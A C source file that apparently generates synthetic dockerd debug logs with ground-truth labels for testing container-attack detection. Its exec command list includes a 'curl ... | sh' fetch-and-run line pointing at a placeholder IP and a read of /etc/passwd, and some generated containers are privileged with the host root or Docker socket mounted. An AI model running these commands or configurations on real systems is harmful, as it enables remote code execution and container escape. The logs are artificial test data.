/*
 * gen_docker.c - a dockerd debug log (logrus text format) of one host.
 *
 * At debug level dockerd logs every API call as "Calling METHOD URI" and, for
 * small JSON bodies, a following "form data: {...}" line: it decodes the body
 * into a map and re-encodes it, so keys come out sorted.  Logrus writes
 * time, level and msg first, then the other fields in sorted order, quoting a
 * value only when it holds characters outside [A-Za-z0-9-._/@^+].  The CLI
 * pings "/_ping" without a version prefix; scripts using curl often omit it
 * for everything.
 */
#include "data/gen.h"

#include <stdlib.h>
#include <string.h>

typedef struct dcontainer {
    char id[65];
    char name[24];
    const char *image;
} dcontainer;

/* A kubelet exec probe through cri-dockerd: the same command in the same
 * container every period, from `next` until `until`. */
typedef struct dprobe {
    dcontainer d;
    const char *const *argv;
    int64_t next, until;
} dprobe;

#define PROBE_PERIOD (10 * GEN_NS_PER_SEC)    /* periodSeconds: 10 */

typedef struct dworld {
    dcontainer run[24];         /* running containers */
    size_t n_run;
    dprobe probes[8];
    size_t n_probes;
    uint64_t next_name;
    cq_strbuf msg;              /* scratch: the msg value before quoting */
} dworld;

static const char *const images[] = {
    "nginx:1.25", "redis:7.2", "postgres:16", "registry.corp.example/shop/api:2.8.1",
    "registry.corp.example/shop/worker:2.8.1", "prom/node-exporter:v1.7.0",
    "grafana/grafana:10.4.1", "traefik:v2.11", "alpine:3.19", "busybox:1.36"};
#define N_IMAGES (sizeof images / sizeof *images)

static void new_container(gen_ctx *c, dworld *w, dcontainer *d)
{
    cq_strbuf b = CQ_STRBUF_INIT;
    gen_put_hex(&b, &c->rng, 64);
    memcpy(d->id, b.buf, 65);
    cq_strbuf_reset(&b);
    d->image = images[gen_below(&c->rng, N_IMAGES)];
    const char *slash = strrchr(d->image, '/');
    const char *base = slash ? slash + 1 : d->image;
    size_t n = strcspn(base, ":");
    gen_putn(&b, base, n < 12 ? n : 12);
    gen_putc(&b, '-');
    gen_put_u64(&b, ++w->next_name);
    memcpy(d->name, b.buf, b.len + 1);
    cq_strbuf_free(&b);
}

/* Starts a line: time="..." level=L msg="M" (M taken from w->msg). */
static void line(gen_ctx *c, dworld *w, int64_t t, const char *level)
{
    cq_strbuf *b = &c->line;
    gen_put(b, "time=\"");
    gen_put_time(b, t, 9);
    gen_put(b, "\" level=");
    gen_put(b, level);
    gen_put(b, " msg=");
    gen_put_lrq(b, w->msg.buf ? w->msg.buf : "");
    cq_strbuf_reset(&w->msg);
}

static void end(gen_ctx *c, int64_t t)
{
    gen_putc(&c->line, '\n');
    gen_push(c, t);
}

static const char *api_prefix(gen_ctx *c, int versioned)
{
    if (!versioned)
        return "";
    return gen_chance(&c->rng, 0.8) ? "/v1.43" : "/v1.44";
}

/* One "Calling METHOD PREFIX PATH" line at t. */
static void calling(gen_ctx *c, dworld *w, int64_t t, const char *method,
                    const char *prefix, const char *path)
{
    gen_put(&w->msg, "Calling ");
    gen_put(&w->msg, method);
    gen_putc(&w->msg, ' ');
    gen_put(&w->msg, prefix);
    gen_put(&w->msg, path);
    line(c, w, t, "debug");
    end(c, t);
}

static void form_data(gen_ctx *c, dworld *w, int64_t t, const char *json)
{
    gen_put(&w->msg, "form data: ");
    gen_put(&w->msg, json);
    line(c, w, t, "debug");
    end(c, t);
}

static int64_t step(gen_ctx *c, int64_t mean_us)
{
    return gen_exp_ns(&c->rng, mean_us * GEN_NS_PER_US) + 50 * GEN_NS_PER_US;
}

static void put_argv_json(cq_strbuf *b, const char *const *argv)
{
    gen_putc(b, '[');
    for (size_t i = 0; argv[i]; i++) {
        if (i)
            gen_putc(b, ',');
        gen_put_jstr(b, argv[i]);
    }
    gen_putc(b, ']');
}

/* An exec sequence: create (+ form data), start (+ form data), the attach
 * lines, inspect.  probe: the kubelet's ExecSync through cri-dockerd, whose
 * client speaks API 1.41 (no ConsoleSize yet) and never allocates a TTY. */
static int64_t exec_in(gen_ctx *c, dworld *w, int64_t t, const dcontainer *d,
                       const char *const *argv, int versioned, int probe)
{
    const char *pre = probe ? "/v1.41" : api_prefix(c, versioned);
    char path[128], eid[65];
    cq_strbuf b = CQ_STRBUF_INIT;
    gen_put_hex(&b, &c->rng, 64);
    memcpy(eid, b.buf, 65);
    int tty = !probe && !argv[1] && (!strcmp(argv[0], "sh") || !strcmp(argv[0], "bash"));

    cq_strbuf_reset(&b);
    gen_put(&b, probe ? "kubelet exec probe via cri-dockerd, every 10 s, in "
                      : "docker exec in ");
    gen_put(&b, d->name);
    gen_put(&b, " (");
    gen_put(&b, d->id);
    gen_put(&b, "):");
    for (size_t i = 0; argv[i]; i++) {
        gen_putc(&b, ' ');
        gen_put(&b, argv[i]);
    }
    gen_truth(c, "T1609-001", t, "docker:daemon", b.buf);
    gen_truth(c, "T1609-002", t, "docker:daemon", b.buf);
    if (probe)
        gen_truth(c, "benign", t, "docker:daemon", b.buf);
    memcpy(path, "/containers/", 12);
    memcpy(path + 12, d->id, 64);
    memcpy(path + 76, "/exec", 6);
    calling(c, w, t, "POST", pre, path);
    cq_strbuf_reset(&b);
    gen_put(&b, "{\"AttachStderr\":true,\"AttachStdin\":");
    gen_put(&b, tty ? "true" : "false");
    gen_put(&b, ",\"AttachStdout\":true,\"Cmd\":");
    put_argv_json(&b, argv);
    if (!probe) {
        gen_put(&b, ",\"ConsoleSize\":[");
        gen_put(&b, tty ? "48,160" : "0,0");
        gen_putc(&b, ']');
    }
    gen_put(&b, ",\"Detach\":false,\"DetachKeys\":\"\",\"Env\":null,\"Privileged\":false,\"Tty\":");
    gen_put(&b, tty ? "true" : "false");
    gen_put(&b, ",\"User\":\"\",\"WorkingDir\":\"\"}");
    t += step(c, 300);
    form_data(c, w, t, b.buf);

    t += step(c, 2000);
    memcpy(path, "/exec/", 6);
    memcpy(path + 6, eid, 64);
    memcpy(path + 70, "/start", 7);
    calling(c, w, t, "POST", pre, path);
    t += step(c, 200);
    form_data(c, w, t, probe ? "{\"Detach\":false,\"Tty\":false}"
                       : tty ? "{\"ConsoleSize\":[48,160],\"Detach\":false,\"Tty\":true}"
                             : "{\"ConsoleSize\":[0,0],\"Detach\":false,\"Tty\":false}");
    t += step(c, 300);
    gen_put(&w->msg, "starting exec command ");
    gen_put(&w->msg, eid);
    gen_put(&w->msg, " in container ");
    gen_put(&w->msg, d->id);
    line(c, w, t, "debug");
    end(c, t);
    static const char *const att[] = {"attach: stdout: begin", "attach: stderr: begin",
                                      "attach: stderr: end", "attach: stdout: end",
                                      "attach done"};
    for (size_t i = 0; i < 5; i++) {
        t += i == 2 ? (tty ? gen_exp_ns(&c->rng, 120 * GEN_NS_PER_SEC)
                           : step(c, probe ? 30000 : 300000))
                    : step(c, 100);
        gen_put(&w->msg, att[i]);
        line(c, w, t, "debug");
        end(c, t);
    }
    t += step(c, 1500);
    memcpy(path + 70, "/json", 6);
    calling(c, w, t, "GET", pre, path);
    cq_strbuf_free(&b);
    return t;
}

static void create_form(cq_strbuf *b, const char *image, int privileged,
                        const char *binds, const char *labels)
{
    gen_put(b, "{\"AttachStderr\":false,\"AttachStdin\":false,\"AttachStdout\":false,"
               "\"Cmd\":null,\"Domainname\":\"\",\"Entrypoint\":null,\"Env\":[],"
               "\"HostConfig\":{\"AutoRemove\":false,\"Binds\":");
    gen_put(b, binds ? binds : "null");
    gen_put(b, ",\"CapAdd\":null,\"CapDrop\":null,\"CgroupnsMode\":\"\",\"ConsoleSize\":[0,0],"
               "\"Dns\":[],\"DnsOptions\":[],\"DnsSearch\":[],\"ExtraHosts\":null,"
               "\"IpcMode\":\"\",\"Isolation\":\"\",\"Links\":null,\"LogConfig\":"
               "{\"Config\":{},\"Type\":\"\"},\"NetworkMode\":\"default\",\"PidMode\":\"");
    gen_put(b, privileged ? "host" : "");
    gen_put(b, "\",\"PortBindings\":{},\"Privileged\":");
    gen_put(b, privileged ? "true" : "false");
    gen_put(b, ",\"PublishAllPorts\":false,\"ReadonlyRootfs\":false,\"RestartPolicy\":"
               "{\"MaximumRetryCount\":0,\"Name\":\"no\"},\"SecurityOpt\":null,"
               "\"ShmSize\":0,\"UTSMode\":\"\",\"UsernsMode\":\"\",\"VolumeDriver\":\"\","
               "\"VolumesFrom\":null},\"Hostname\":\"\",\"Image\":");
    gen_put_jstr(b, image);
    gen_put(b, ",\"Labels\":");
    gen_put(b, labels ? labels : "{}");
    gen_put(b, ",\"NetworkingConfig\":{\"EndpointsConfig\":{}},"
               "\"OnBuild\":null,\"OpenStdin\":false,\"StdinOnce\":false,\"Tty\":false,"
               "\"User\":\"\",\"Volumes\":{},\"WorkingDir\":\"\"}");
}

/* docker run -d: create (+ form data), start, and the daemon's own lines. */
static int64_t docker_run(gen_ctx *c, dworld *w, int64_t t, const gen_docker_opts *o)
{
    dcontainer d;
    new_container(c, w, &d);
    const char *pre = api_prefix(c, 1);
    char path[128];
    double x = gen_unit(&c->rng);
    int priv = x < 0.08;
    const char *binds = x < 0.04 ? "[\"/:/host\"]"
                      : x < 0.12 ? "[\"/var/run/docker.sock:/var/run/docker.sock\"]"
                      : x < 0.4 ? "[\"/srv/data:/data\"]" : NULL;
    memcpy(path, "/containers/create?name=", 24);
    memcpy(path + 24, d.name, strlen(d.name) + 1);
    calling(c, w, t, "POST", pre, path);
    cq_strbuf b = CQ_STRBUF_INIT;
    create_form(&b, d.image, priv, binds, NULL);
    t += step(c, 300);
    form_data(c, w, t, b.buf);
    cq_strbuf_free(&b);
    if (gen_chance(&c->rng, 0.5)) {
        t += step(c, 2000);
        gen_put(&w->msg, "Your kernel does not support swap limit capabilities or the "
                         "cgroup is not mounted. Memory limited without swap.");
        line(c, w, t, "warning");
        end(c, t);
    }
    t += step(c, 40000);
    memcpy(path, "/containers/", 12);
    memcpy(path + 12, d.id, 64);
    memcpy(path + 76, "/start", 7);
    if (o->truth_starts) {
        cq_strbuf_reset(&w->msg);
        gen_put(&w->msg, "container start (docker run ");
        gen_put(&w->msg, d.image);
        gen_put(&w->msg, priv ? ", privileged" : "");
        gen_put(&w->msg, ") ");
        gen_put(&w->msg, d.name);
        gen_truth(c, "T1609-002", t, "docker:daemon", w->msg.buf);
        cq_strbuf_reset(&w->msg);
    }
    calling(c, w, t, "POST", pre, path);
    t += step(c, 20000);
    gen_put(&w->msg, "Assigning addresses for endpoint ");
    gen_put(&w->msg, d.name);
    gen_put(&w->msg, "'s interface on network bridge");
    line(c, w, t, "debug");
    end(c, t);
    t += step(c, 30000);
    gen_put(&w->msg, "loading plugin \"io.containerd.event.v1.publisher\"...");
    line(c, w, t, "info");
    gen_put(&c->line, " runtime=io.containerd.runc.v2 type=io.containerd.event.v1");
    end(c, t);
    if (w->n_run < sizeof w->run / sizeof *w->run)
        w->run[w->n_run++] = d;
    else
        w->run[gen_below(&c->rng, (uint32_t)w->n_run)] = d;
    return t;
}

static void docker_stop(gen_ctx *c, dworld *w, int64_t t)
{
    if (w->n_run < 4)
        return;
    size_t i = gen_below(&c->rng, (uint32_t)w->n_run);
    dcontainer d = w->run[i];
    w->run[i] = w->run[--w->n_run];
    char path[128];
    memcpy(path, "/containers/", 12);
    memcpy(path + 12, d.id, 64);
    memcpy(path + 76, "/stop", 6);
    calling(c, w, t, "POST", api_prefix(c, 1), path);
    if (gen_chance(&c->rng, 0.3)) {
        t += 10 * GEN_NS_PER_SEC + step(c, 2000);
        gen_put(&w->msg, "Container failed to exit within 10s of signal 15 - using the force");
        line(c, w, t, "info");
        gen_put(&c->line, " container=");
        gen_put(&c->line, d.id);
        end(c, t);
    }
    t += step(c, 50000);
    gen_put(&w->msg, "ignoring event");
    line(c, w, t, "info");
    gen_put(&c->line, " container=");
    gen_put(&c->line, d.id);
    gen_put(&c->line, " module=libcontainerd namespace=moby topic=/tasks/delete "
                      "type=\"*events.TaskDelete\"");
    end(c, t);
    t += step(c, 3000);
    gen_put(&w->msg, "shim disconnected");
    line(c, w, t, "info");
    gen_put(&c->line, " id=");
    gen_put(&c->line, d.id);
    gen_put(&c->line, " namespace=moby");
    end(c, t);
    t += step(c, 500);
    gen_put(&w->msg, "cleaning up after shim disconnected");
    line(c, w, t, "warning");
    gen_put(&c->line, " id=");
    gen_put(&c->line, d.id);
    gen_put(&c->line, " namespace=moby");
    end(c, t);
}

/* Polling by monitoring agents and people: the bulk of any daemon log. */
static void poll(gen_ctx *c, dworld *w, int64_t t, size_t kind)
{
    const dcontainer *d = &w->run[gen_below(&c->rng, (uint32_t)w->n_run)];
    char path[160];
    int versioned = gen_chance(&c->rng, 0.9);
    const char *pre = api_prefix(c, versioned);
    switch (kind) {
    case 0: calling(c, w, t, "GET", pre, "/containers/json"); break;
    case 1: calling(c, w, t, "HEAD", "", "/_ping"); break;
    case 2: calling(c, w, t, "GET", pre, "/info"); break;
    case 3: calling(c, w, t, "GET", pre, "/version"); break;
    case 4: calling(c, w, t, "GET", pre, "/images/json"); break;
    case 5: case 6: case 7: {
        static const char *const tails[] = {"/json", "/stats?stream=0",
                                            "/logs?stderr=1&stdout=1&tail=100"};
        memcpy(path, "/containers/", 12);
        memcpy(path + 12, d->id, 64);
        strcpy(path + 76, tails[kind - 5]);
        calling(c, w, t, "GET", pre, path);
        break;
    }
    case 8:
        gen_put(&w->msg, "Health check for container ");
        gen_put(&w->msg, d->id);
        gen_put(&w->msg, " done (exitCode=0)");
        line(c, w, t, "debug");
        end(c, t);
        break;
    default:
        calling(c, w, t, "GET", pre, "/events?filters=%7B%22type%22%3A%7B%22container%22%3Atrue%7D%7D");
        break;
    }
}

static const char *const *const dexec_cmds[] = {
    (const char *const[]){"sh", NULL},
    (const char *const[]){"bash", NULL},
    (const char *const[]){"sh", "-c", "id", NULL},
    (const char *const[]){"cat", "/etc/passwd", NULL},
    (const char *const[]){"redis-cli", "ping", NULL},
    (const char *const[]){"psql", "-U", "postgres", "-c", "select 1", NULL},
    (const char *const[]){"sh", "-c", "curl -fsSL http://198.51.100.23/m.sh | sh", NULL},
};

/* Pods whose containers have exec readiness probes, as the kubelet runs
 * them on a node with cri-dockerd. */
static const struct {
    const char *ns, *pod, *container, *image;
    const char *const *argv;
} probed[] = {
    {"kafka", "zk-0", "zookeeper", "zookeeper:3.8.4",
     (const char *const[]){"sh", "-c", "zookeeper-ready 2181", NULL}},
    {"orders", "orders-db-0", "postgres", "postgres:16",
     (const char *const[]){"/bin/sh", "-c", "pg_isready -U postgres -h 127.0.0.1 -p 5432", NULL}},
    {"default", "liveness-exec", "liveness", "registry.k8s.io/busybox",
     (const char *const[]){"cat", "/tmp/healthy", NULL}},
};
#define N_PROBED (sizeof probed / sizeof *probed)

/* cri-dockerd starts pod k's container (k8s_<container>_<pod>_<ns>_<uid>_0,
 * io.kubernetes.* labels) at t; its probe runs from t + 5 s
 * (initialDelaySeconds) for `window` (0: to the end). */
static void k8s_container(gen_ctx *c, dworld *w, int64_t t, size_t k, int64_t window,
                          int truth)
{
    if (w->n_probes == sizeof w->probes / sizeof *w->probes)
        return;
    dprobe *p = &w->probes[w->n_probes++];
    cq_strbuf b = CQ_STRBUF_INIT, lab = CQ_STRBUF_INIT;
    gen_put_hex(&b, &c->rng, 64);
    memcpy(p->d.id, b.buf, 65);
    memcpy(p->d.name, probed[k].pod, strlen(probed[k].pod) + 1);
    p->d.image = probed[k].image;
    p->argv = probed[k].argv;
    p->next = t + 5 * GEN_NS_PER_SEC;
    p->until = window ? t + window : INT64_MAX;
    char uid[40];
    cq_strbuf_reset(&b);
    gen_put_uuid_of(&b, gen_hash(probed[k].pod, 13));
    memcpy(uid, b.buf, 37);
    gen_put(&lab, "{\"annotation.io.kubernetes.container.restartCount\":\"0\","
                  "\"io.kubernetes.container.logpath\":\"/var/log/pods/");
    gen_put(&lab, probed[k].ns);
    gen_putc(&lab, '_');
    gen_put(&lab, probed[k].pod);
    gen_putc(&lab, '_');
    gen_put(&lab, uid);
    gen_putc(&lab, '/');
    gen_put(&lab, probed[k].container);
    gen_put(&lab, "/0.log\",\"io.kubernetes.container.name\":\"");
    gen_put(&lab, probed[k].container);
    gen_put(&lab, "\",\"io.kubernetes.docker.type\":\"container\",\"io.kubernetes.pod.name\":\"");
    gen_put(&lab, probed[k].pod);
    gen_put(&lab, "\",\"io.kubernetes.pod.namespace\":\"");
    gen_put(&lab, probed[k].ns);
    gen_put(&lab, "\",\"io.kubernetes.pod.uid\":\"");
    gen_put(&lab, uid);
    gen_put(&lab, "\",\"io.kubernetes.sandbox.id\":\"");
    gen_put_hex(&lab, &c->rng, 64);
    gen_put(&lab, "\"}");
    cq_strbuf_reset(&b);
    gen_put(&b, "/containers/create?name=k8s_");
    gen_put(&b, probed[k].container);
    gen_putc(&b, '_');
    gen_put(&b, probed[k].pod);
    gen_putc(&b, '_');
    gen_put(&b, probed[k].ns);
    gen_putc(&b, '_');
    gen_put(&b, uid);
    gen_put(&b, "_0");
    calling(c, w, t, "POST", "/v1.41", b.buf);
    cq_strbuf_reset(&b);
    create_form(&b, probed[k].image, 0, NULL, lab.buf);
    t += step(c, 300);
    form_data(c, w, t, b.buf);
    t += step(c, 40000);
    if (truth) {
        cq_strbuf_reset(&w->msg);
        gen_put(&w->msg, "container start (cri-dockerd for the kubelet) ");
        gen_put(&w->msg, probed[k].ns);
        gen_putc(&w->msg, '/');
        gen_put(&w->msg, probed[k].pod);
        gen_putc(&w->msg, ' ');
        gen_put(&w->msg, probed[k].container);
        gen_truth(c, "T1609-002", t, "docker:daemon", w->msg.buf);
        cq_strbuf_reset(&w->msg);
    }
    cq_strbuf_reset(&b);
    gen_put(&b, "/containers/");
    gen_put(&b, p->d.id);
    gen_put(&b, "/start");
    calling(c, w, t, "POST", "/v1.41", b.buf);
    cq_strbuf_free(&b);
    cq_strbuf_free(&lab);
}

/* Runs every probe due by `now`, at its exact period. */
static void run_probes(gen_ctx *c, dworld *w, int64_t now)
{
    for (size_t i = 0; i < w->n_probes; i++) {
        dprobe *p = &w->probes[i];
        for (; p->next <= now && p->next < p->until; p->next += PROBE_PERIOD)
            exec_in(c, w, p->next + gen_below(&c->rng, 2000) * GEN_NS_PER_US, &p->d,
                    p->argv, 1, 1);
    }
}

void gen_docker_run(gen_ctx *c, const gen_docker_opts *o,
                    void (*inject)(gen_ctx *, void *), void *arg)
{
    dworld *w = calloc(1, sizeof *w);
    if (!w) {
        fputs("cquery-gen: out of memory\n", stderr);
        exit(3);
    }
    c->state = w;
    for (int i = 0; i < 12; i++)
        new_container(c, w, &w->run[w->n_run++]);
    for (int i = 0; i < o->probes && i < (int)N_PROBED; i++)
        k8s_container(c, w, c->now, (size_t)i, 0, o->truth_starts);
    static const double wt[] = {20, 15, 4, 2, 3, 9, 9, 3, 8, 0.5, 1.2, 1.0};
    while (!gen_done(c)) {
        c->now += gen_exp_ns(&c->rng, (int64_t)o->mean_gap_ns);
        if (c->until && c->now >= c->until)
            break;
        if (inject)
            inject(c, arg);
        run_probes(c, w, c->now);
        size_t k = gen_pick(&c->rng, wt, sizeof wt / sizeof *wt);
        if (o->exec_rate > 0 && gen_chance(&c->rng, o->exec_rate)) {
            const dcontainer *d = &w->run[gen_below(&c->rng, (uint32_t)w->n_run)];
            exec_in(c, w, c->now, d,
                    dexec_cmds[gen_below(&c->rng, sizeof dexec_cmds / sizeof *dexec_cmds)],
                    gen_chance(&c->rng, 0.9), 0);
        } else if (k < 10) {
            poll(c, w, c->now, k);
        } else if (k == 10) {
            docker_run(c, w, c->now, o);
        } else {
            docker_stop(c, w, c->now);
        }
        gen_flush_until(c, c->now);
    }
    gen_finish(c);
    c->state = NULL;
    cq_strbuf_free(&w->msg);
    free(w);
}

int64_t gen_docker_exec(gen_ctx *c, int64_t t, const char *const *argv,
                        int versioned)
{
    dworld *w = c->state;
    return exec_in(c, w, t, &w->run[gen_below(&c->rng, (uint32_t)w->n_run)], argv,
                   versioned, 0);
}

int64_t gen_docker_benign(gen_ctx *c, int64_t t, const char *what)
{
    dworld *w = c->state;
    if (!strcmp(what, "ps"))
        poll(c, w, t, 0);
    else if (!strcmp(what, "logs"))
        poll(c, w, t, 7);
    else if (!strcmp(what, "health"))
        poll(c, w, t, 8);
    else
        poll(c, w, t, 5);
    return t;
}

void gen_docker_k8s_pod(gen_ctx *c, int64_t t, size_t which, int64_t window)
{
    dworld *w = c->state;
    k8s_container(c, w, t, which % N_PROBED, window, 1);
}
